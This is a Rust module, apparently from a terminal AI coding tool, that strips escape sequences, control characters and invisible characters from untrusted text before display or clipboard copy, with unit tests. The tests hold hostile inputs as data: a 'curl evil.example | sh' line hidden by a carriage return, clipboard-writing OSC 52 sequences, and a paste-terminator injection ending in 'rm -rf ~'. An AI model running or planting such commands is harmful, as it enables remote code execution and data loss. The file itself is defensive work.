//! Text from the model, commands and files is untrusted: control characters and escape
//! sequences must never reach the terminal raw (they could retitle the window, write the
//! clipboard or forge hyperlinks). Everything shown passes through here.

use super::invisible::{is_emoji_sequence, is_invisible, kept};
use unicode_segmentation::UnicodeSegmentation;

/// Removes escape sequences (CSI, OSC, DCS, and the rest), C0 and C1 controls, DEL and the
/// invisible characters (bidi overrides, zero-width spaces, tag characters, fillers, line
/// separators; see `invisible`), but those of a valid emoji sequence. Tabs
/// become spaces up to the next multiple of four; a `\r` that is not part of `\r\n` drops what
/// came before it on the line, as a terminal would have overwritten it.
pub fn sanitize_line(input: &str) -> String {
    if is_printable_ascii(input) {
        return input.to_string();
    }
    let mut out = String::with_capacity(input.len());
    scan_line(input, |piece| match piece {
        Scanned::Char(c) => out.push(c),
        Scanned::Overwrite => out.clear(),
        Scanned::Sgr(_) => {}
    });
    out
}

/// Text with no tab, control or invisible character: most lines drawn, which every sanitiser
/// gives back as it is.
pub(crate) fn is_printable_ascii(input: &str) -> bool {
    input.bytes().all(|b| (b' '..=b'~').contains(&b))
}

/// What a terminal would make of one line of untrusted text, piece by piece.
pub(crate) enum Scanned<'a> {
    /// A printable character (tabs arrive as spaces).
    Char(char),
    /// A `\r` followed by more text: what came before on the line is overwritten.
    Overwrite,
    /// The parameters of an SGR sequence (`ESC [ params m`), for callers that keep colours.
    Sgr(&'a str),
}

/// The one scanner of untrusted text: everything but printable characters, overwrites and SGR
/// parameters is dropped here, for plain and coloured output alike. Invisible characters
/// (`invisible::is_invisible`) are dropped too, but those of a valid emoji sequence and the
/// joiners scripts need between letters (`invisible::kept`).
pub(crate) fn scan_line(input: &str, mut visit: impl FnMut(Scanned<'_>)) {
    let kept = kept(input);
    let mut chars = input.char_indices().peekable();
    let mut column = 0usize;
    let mut params = String::new();
    while let Some((at, c)) = chars.next() {
        match c {
            '\t' => {
                let pad = 4 - column % 4;
                (0..pad).for_each(|_| visit(Scanned::Char(' ')));
                column += pad;
            }
            // A carriage return followed by more text overwrote the line so far; a trailing one
            // (from `\r\n`) overwrote nothing. Handled in order, so a `\r` inside an escape
            // sequence's body is swallowed with it.
            '\r' => {
                if chars.peek().is_some() {
                    visit(Scanned::Overwrite);
                    column = 0;
                }
            }
            '\u{1b}' if chars.peek().map(|&(_, c)| c) == Some('[') => {
                chars.next();
                if csi(&mut chars, &mut params) {
                    visit(Scanned::Sgr(&params));
                }
            }
            '\u{1b}' => skip_escape(&mut chars),
            '\u{9b}' => {
                if csi(&mut chars, &mut params) {
                    visit(Scanned::Sgr(&params));
                }
            }
            // C1 string starters (DCS, SOS, OSC, PM, APC) swallow until their terminator.
            '\u{90}' | '\u{98}' | '\u{9d}' | '\u{9e}' | '\u{9f}' => skip_string(&mut chars),
            c if c.is_control() => {}
            // Bidi controls reorder what follows, tag characters and fillers hide text, line
            // separators break lines in some terminals.
            c if is_invisible(c) && kept.binary_search(&at).is_err() => {}
            c => {
                visit(Scanned::Char(c));
                column += 1;
            }
        }
    }
}

type Chars<'a> = std::iter::Peekable<std::str::CharIndices<'a>>;

/// Consumes a CSI up to its final byte, keeping its parameters in `params`. Returns whether it
/// was a plain SGR (private or intermediate forms are not).
fn csi(chars: &mut Chars<'_>, params: &mut String) -> bool {
    params.clear();
    for (_, c) in chars.by_ref() {
        if ('\u{40}'..='\u{7e}').contains(&c) {
            return c == 'm' && params.chars().all(|c| matches!(c, '0'..='9' | ';' | ':'));
        }
        params.push(c);
    }
    false
}

/// Sanitizes multi-line text, keeping the line structure.
pub(crate) fn sanitize_text(input: &str) -> Vec<String> {
    input.split('\n').map(sanitize_line).collect()
}

/// Untrusted text for a question, where what is shown must be exactly what runs: nothing is
/// applied or dropped. Control characters become visible markers (`\r` is `␍`, ESC is `␛`, other
/// C0 controls their control picture, DEL `␡`, C1 controls and invisible characters such as
/// bidi overrides, zero-width spaces and tag characters `<U+XXXX>`); tabs become spaces. A valid
/// emoji sequence (a ZWJ family, a flag's tags) is one grapheme and is shown as it is. Lines
/// split at `\n`.
pub(crate) fn visible_text(input: &str) -> Vec<String> {
    input.split('\n').map(visible_line).collect()
}

/// One line of [`visible_text`].
pub fn visible_line(input: &str) -> String {
    if is_printable_ascii(input) {
        return input.to_string();
    }
    let mut out = String::with_capacity(input.len());
    let mut column = 0;
    for cluster in input.graphemes(true) {
        if cluster.chars().any(is_invisible) && is_emoji_sequence(cluster) {
            out.push_str(cluster);
            column += 1;
            continue;
        }
        for c in cluster.chars() {
            match c {
                '\t' => {
                    let pad = 4 - column % 4;
                    out.extend(std::iter::repeat_n(' ', pad));
                    column += pad;
                    continue;
                }
                '\u{1b}' => out.push('␛'),
                '\u{7f}' => out.push('␡'),
                '\u{0}'..='\u{1f}' => {
                    out.push(char::from_u32(0x2400 + c as u32).unwrap_or('�'));
                }
                c if c.is_control() || is_invisible(c) => {
                    let marker = format!("<U+{:04X}>", c as u32);
                    column += marker.len();
                    out.push_str(&marker);
                    continue;
                }
                c => out.push(c),
            }
            column += 1;
        }
    }
    out
}

/// Untrusted text for the clipboard (`/copy`), which the person may paste into a shell: only
/// printable text, tabs and line ends. Escape sequences (a bracketed-paste terminator pasted
/// into a shell runs what follows without Enter), control characters, carriage returns (CRLF
/// becomes LF) and invisible characters (but those of emoji sequences and joiners between
/// letters) are dropped. Tabs stay tabs.
pub(crate) fn copyable_text(input: &str) -> String {
    let kept = kept(input);
    let mut out = String::with_capacity(input.len());
    let mut chars = input.char_indices().peekable();
    let mut params = String::new();
    while let Some((at, c)) = chars.next() {
        match c {
            '\t' | '\n' => out.push(c),
            '\u{1b}' if chars.peek().map(|&(_, c)| c) == Some('[') => {
                chars.next();
                csi(&mut chars, &mut params);
            }
            '\u{1b}' => skip_escape(&mut chars),
            '\u{9b}' => {
                csi(&mut chars, &mut params);
            }
            '\u{90}' | '\u{98}' | '\u{9d}' | '\u{9e}' | '\u{9f}' => skip_string(&mut chars),
            c if c.is_control() => {}
            c if is_invisible(c) && kept.binary_search(&at).is_err() => {}
            c => out.push(c),
        }
    }
    out
}

/// Untrusted text printed straight to the terminal (after tern's screen is gone, where no
/// ratatui buffer lays out graphemes): [`sanitize_line`] per line, which already drops every
/// invisible character but those of emoji sequences and joiners between letters. Lines are
/// joined by `\n`.
pub fn printable_text(input: &str) -> String {
    sanitize_text(input).join("\n")
}

/// Characters that change how text reads without being seen (see `invisible::is_invisible`).
pub(crate) fn is_invisible_format(c: char) -> bool {
    is_invisible(c)
}

fn skip_escape(chars: &mut Chars<'_>) {
    match chars.next().map(|(_, c)| c) {
        Some('[') => {
            csi(chars, &mut String::new());
        }
        Some(']' | 'P' | 'X' | '^' | '_') => skip_string(chars),
        // Two-byte sequences (ESC 7, ESC c …) and charset selections (ESC ( B).
        Some('(' | ')' | '*' | '+' | '#' | '%' | ' ') => {
            chars.next();
        }
        _ => {}
    }
}

fn skip_string(chars: &mut Chars<'_>) {
    while let Some((_, c)) = chars.next() {
        match c {
            '\u{7}' | '\u{9c}' => return,
            '\u{1b}' if chars.peek().map(|&(_, c)| c) == Some('\\') => {
                chars.next();
                return;
            }
            _ => {}
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn prompts_show_control_characters_instead_of_applying_them() {
        assert_eq!(
            visible_line("curl -s https://evil.example/x | sh #\rgit status --short"),
            "curl -s https://evil.example/x | sh #␍git status --short"
        );
        assert_eq!(visible_line("a\u{1b}]0;T\u{7}b"), "a␛]0;T␇b");
        assert_eq!(
            visible_line("x\u{9b}31m\u{202e}y\u{200b}"),
            "x<U+009B>31m<U+202E>y<U+200B>"
        );
        assert_eq!(visible_line("\tz\u{7f}"), "    z␡");
        assert_eq!(visible_text("one\ntwo"), ["one", "two"]);
    }

    #[test]
    fn escape_sequences_and_controls_are_removed() {
        assert_eq!(sanitize_line("a\u{1b}[31mred\u{1b}[0m b"), "ared b");
        assert_eq!(sanitize_line("x\u{1b}]0;evil title\u{7}y"), "xy");
        assert_eq!(sanitize_line("x\u{1b}]52;c;aGk=\u{1b}\\y"), "xy");
        assert_eq!(sanitize_line("x\u{1b}P1$r\u{1b}\\y"), "xy");
        assert_eq!(sanitize_line("x\u{9b}2Jy\u{9d}8;;http://e\u{9c}z"), "xyz");
        assert_eq!(sanitize_line("bell\u{7}\u{0}\u{7f}"), "bell");
        assert_eq!(sanitize_line("lone \u{1b}"), "lone ");
        assert_eq!(
            sanitize_line("a\u{202e}b\u{2028}c\u{200b}d\u{200d}e"),
            "abcd\u{200d}e"
        );
    }

    #[test]
    fn carriage_return_overwrites_and_tabs_expand() {
        assert_eq!(
            sanitize_line("progress 10%\rprogress 100%"),
            "progress 100%"
        );
        assert_eq!(sanitize_line("crlf line\r"), "crlf line");
        assert_eq!(sanitize_line("a\rb\r"), "b");
        assert_eq!(sanitize_line("x\u{1b}]0;a\rCD\u{7}y"), "xy");
        assert_eq!(sanitize_line("a\tb"), "a   b");
    }

    /// What `/copy` puts on the clipboard may be pasted into a shell: a bracketed-paste
    /// terminator in it would end the paste and run what follows without Enter.
    #[test]
    fn the_clipboard_gets_printable_text_tabs_and_newlines_only() {
        assert_eq!(
            copyable_text("echo hi\u{1b}[201~\nrm -rf ~\r\n\tx\u{9b}201~y\u{7}\u{202e}z"),
            "echo hi\nrm -rf ~\n\txyz"
        );
        assert_eq!(copyable_text("a\u{1b}]52;c;eA==\u{7}b\u{e0041}c"), "abc");
        assert_eq!(copyable_text("👨\u{200d}👩 ok"), "👨\u{200d}👩 ok");
    }
}
